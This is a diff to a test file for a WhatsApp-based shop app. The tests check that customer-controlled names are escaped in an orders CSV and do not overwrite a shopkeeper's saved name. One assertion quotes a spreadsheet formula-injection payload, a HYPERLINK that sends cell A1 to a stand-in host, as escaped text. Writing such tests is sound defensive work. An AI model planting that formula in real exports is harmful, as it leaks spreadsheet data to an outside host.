@@ -1,4 +1,4 @@
-// The orders CSV goes to a spreadsheet: a customer's self-chosen WhatsApp name must never run as a formula.
+// What a customer controls (their WhatsApp name) never runs in a spreadsheet or overwrites what the shop typed.
 import { afterEach, expect, it } from 'vitest'
 import { openShop, type TestShop } from '../fixtures/conv-harness'
 import { createDispatcher } from '../../electron/engine/api'
@@ -19,4 +19,20 @@ it('escapes cells a customer controls in the orders CSV', async () => {
   expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Click"")"`)
   expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
   expect(text).toContain(',+919800000007,')
+})
+
+it('keeps the name the shopkeeper gave a customer when their WhatsApp name arrives again', async () => {
+  shop = await openShop()
+  shop.engine.simulator.simulateInbound('+919800000008', 'hi', 'Pinky 💅')
+  await shop.settle()
+  const dispatch = createDispatcher(shop.engine)
+  const set = await dispatch('chats.setCustomer', {
+    phone: '+919800000008',
+    name: 'Mrs Priya Sharma (flat 203)',
+  })
+  expect(set.ok).toBe(true)
+  shop.engine.simulator.simulateInbound('+919800000008', '2 kg onion', 'Pinky 💅')
+  await shop.settle()
+  const chat = await dispatch('chats.get', { phone: '+919800000008' })
+  expect(chat).toMatchObject({ ok: true, value: { name: 'Mrs Priya Sharma (flat 203)' } })
 })
